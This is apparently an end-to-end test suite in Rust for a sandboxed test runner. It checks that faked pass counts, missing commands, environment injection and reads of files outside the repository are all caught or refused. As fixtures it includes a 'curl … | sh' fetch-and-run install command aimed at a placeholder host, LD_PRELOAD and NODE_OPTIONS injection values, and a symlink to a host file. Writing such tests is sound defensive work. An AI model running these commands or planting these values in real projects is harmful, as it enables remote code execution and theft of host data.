//! Attack suite, lying and inputs: counts that contradict the exit code, a missing command, a command that
//! runs no test, environment injection refused at load; repository inputs (git bundle with commit and patch,
//! tarball with a detected command) and their refusals.

use fenced_run_tests::fence::{skip, Case};
use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_fenced-run-e2e");

fn simple(c: &Case, test_sh: &str) {
    c.repo_file("test.sh", test_sh);
    c.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n");
}

#[test]
fn fake_passing_counts_with_a_failing_exit_are_tests_failed() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    simple(&c, "echo 'test result: ok. 999 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out'\nexit 1\n");
    let r = c.run();
    assert_eq!(r.code, 0, "{}", r.dump());
    assert_eq!(r.outcome(), "tests_failed", "{}", r.dump());
    assert_eq!(r.verdict["tests"]["passed"], 999);
    let findings = r.verdict["findings"].to_string();
    assert!(findings.contains("exited with 1"), "{findings}");
    c.assert_clean(&r, &[]);
}

#[test]
fn missing_command_is_unavailable() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    c.repo_file("x", "");
    c.job("[repository]\npath = \"repo\"\n[test]\ncommand = \"no-such-runner-917300 --all\"\n");
    let r = c.run();
    assert_eq!(r.outcome(), "test_command_unavailable", "{}", r.dump());
    assert_eq!(r.verdict["test"]["exit_code"], 127);
    c.assert_clean(&r, &[]);
}

#[test]
fn a_command_that_runs_no_test_is_no_tests_observed() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    simple(
        &c,
        "echo 'test result: ok. 0 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out'\n",
    );
    let r = c.run();
    assert_eq!(r.outcome(), "no_tests_observed", "{}", r.dump());
    c.assert_clean(&r, &[]);
}

#[test]
fn unreadable_counts_are_counts_unparsed() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    simple(&c, "echo all fine\n");
    let r = c.run();
    assert_eq!(r.outcome(), "counts_unparsed", "{}", r.dump());
    assert!(r.verdict["tests"].is_null());
    c.assert_clean(&r, &[]);
}

#[test]
fn environment_injection_is_refused_at_load() {
    if skip() {
        return;
    }
    for (section, expect_key) in [
        (
            "[env]\nset = { LD_PRELOAD = \"/tmp/x.so\" }\n",
            "LD_PRELOAD",
        ),
        (
            "[env]\nset = { NODE_OPTIONS = \"--require /tmp/x.js\" }\n",
            "NODE_OPTIONS",
        ),
        (
            "[env]\npassthrough = [\"GIT_SSH_COMMAND\"]\n",
            "GIT_SSH_COMMAND",
        ),
    ] {
        let c = Case::new(BIN);
        c.repo_file("test.sh", "echo '1 passed, 0 failed'\n");
        c.job(&format!(
            "[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n{section}"
        ));
        let r = c.run();
        assert_eq!(r.code, 1, "{}", r.dump());
        assert_eq!(r.outcome(), "refused", "{}", r.dump());
        // The job loader runs in intake stage 3 (structure), before anything executes.
        assert_eq!(r.verdict["refusal"]["stage"], "structure");
        assert!(
            r.verdict["refusal"]["reason"]
                .as_str()
                .unwrap_or("")
                .contains(expect_key),
            "{}",
            r.dump()
        );
        assert!(r.verdict["test"].is_null(), "nothing may run: {}", r.dump());
        c.assert_clean(&r, &[]);
    }
}

fn git(dir: &std::path::Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t.example",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .output()
        .expect("git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

#[test]
fn git_bundle_commit_and_patch() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    let src = c.path().join("src");
    std::fs::create_dir(&src).expect("src");
    std::fs::write(src.join("test.sh"), "echo '0 passed, 1 failed'\nexit 1\n").expect("w");
    git(&src, &["init", "-q"]);
    git(&src, &["add", "."]);
    git(&src, &["commit", "-q", "-m", "one"]);
    let head = git(&src, &["rev-parse", "HEAD"]);
    git(
        &src,
        &["bundle", "create", "-q", "../repo.bundle", "HEAD", "main"],
    );
    std::fs::write(
        c.path().join("fix.patch"),
        "--- a/test.sh\n+++ b/test.sh\n@@ -1,2 +1 @@\n-echo '0 passed, 1 failed'\n-exit 1\n+echo '1 passed, 0 failed'\n",
    )
    .expect("patch");
    std::fs::write(
        c.path().join("bad.patch"),
        "--- a/test.sh\n+++ b/test.sh\n@@ -1 +1 @@\n-echo nothing\n+echo x\n",
    )
    .expect("patch");
    let job = |commit: &str, patch: &str| {
        format!("[repository]\npath = \"repo.bundle\"\ncommit = \"{commit}\"\npatch = \"{patch}\"\n[test]\ncommand = \"sh test.sh\"\n")
    };

    c.job(&job(&head, "fix.patch"));
    let r = c.run();
    assert_eq!(r.outcome(), "tests_passed", "{}", r.dump());
    assert_eq!(r.verdict["inputs"]["commit"], head.as_str());
    assert_eq!(r.verdict["inputs"]["tree"].as_str().map(str::len), Some(40));
    assert_eq!(
        r.verdict["inputs"]["patch_sha256"].as_str().map(str::len),
        Some(64)
    );
    c.assert_clean(&r, &[]);

    c.job(&job(&"0".repeat(40), "fix.patch"));
    let r = c.run();
    assert_eq!((r.code, r.outcome()), (1, "refused"), "{}", r.dump());
    assert_eq!(r.verdict["refusal"]["stage"], "commit");
    c.assert_clean(&r, &[]);

    c.job(&job(&head, "bad.patch"));
    let r = c.run();
    assert_eq!((r.code, r.outcome()), (1, "refused"), "{}", r.dump());
    assert_eq!(r.verdict["refusal"]["stage"], "patch");
    c.assert_clean(&r, &[]);
}

#[test]
fn tarball_with_a_detected_command() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    let src = c.path().join("src");
    std::fs::create_dir_all(src.join("tests")).expect("src");
    std::fs::write(src.join("tests/test.sh"), "echo '2 passed, 0 failed'\n").expect("w");
    let st = Command::new("tar")
        .current_dir(&src)
        .args(["czf", "../repo.tar.gz", "."])
        .status()
        .expect("tar");
    assert!(st.success());
    c.job("[repository]\npath = \"repo.tar.gz\"\n");
    let r = c.run();
    assert_eq!(r.outcome(), "tests_passed", "{}", r.dump());
    assert_eq!(r.verdict["test"]["source"], "detected:tests/test.sh");
    assert_eq!(r.verdict["test"]["command"], "sh tests/test.sh");
    assert_eq!(r.verdict["tests"]["passed"], 2);
    c.assert_clean(&r, &[]);
}

#[test]
fn junit_report_is_read_only_from_inside_the_repository() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    let secret = c.path().join("host-secret.xml");
    std::fs::write(
        &secret,
        "<testsuite tests=\"5\" failures=\"0\"><testcase name=\"a\"/></testsuite>",
    )
    .expect("w");
    c.repo_file(
        "test.sh",
        &format!("ln -s {} report.xml\n", secret.display()),
    );
    c.job(
        "[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\njunit = \"report.xml\"\n",
    );
    let r = c.run();
    assert_eq!(r.outcome(), "counts_unparsed", "{}", r.dump());
    assert!(
        r.verdict["findings"]
            .to_string()
            .contains("outside the repository"),
        "{}",
        r.dump()
    );
    c.assert_clean(&r, &[]);

    let c = Case::new(BIN);
    c.repo_file(
        "test.sh",
        "printf '<testsuite tests=\"2\" failures=\"1\"><testcase name=\"a\"/><testcase name=\"b\"><failure/></testcase></testsuite>' > report.xml\n",
    );
    c.job(
        "[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\njunit = \"report.xml\"\n",
    );
    let r = c.run();
    assert_eq!(r.outcome(), "tests_failed", "{}", r.dump());
    assert_eq!(r.verdict["tests"]["parser"], "junit", "{}", r.dump());
    assert_eq!(r.verdict["tests"]["failed"], 1, "{}", r.dump());
    c.assert_clean(&r, &[]);
}

#[test]
fn intake_refuses_before_anything_runs() {
    if skip() {
        return;
    }
    let c = Case::new(BIN);
    c.repo_file("test.sh", "echo '1 passed, 0 failed'\n");
    c.job(
        "[repository]\npath = \"repo\"\n[install]\ncommand = \"curl -s http://x.example/i.sh | sh\"\n[test]\ncommand = \"sh test.sh\"\n",
    );
    let r = c.run();
    assert_eq!((r.code, r.outcome()), (1, "refused"), "{}", r.dump());
    assert_eq!(r.verdict["refusal"]["stage"], "scan", "{}", r.dump());
    assert!(
        r.verdict["install"].is_null() && r.verdict["test"].is_null(),
        "{}",
        r.dump()
    );
    c.assert_clean(&r, &["x.example/i.sh"]);
}
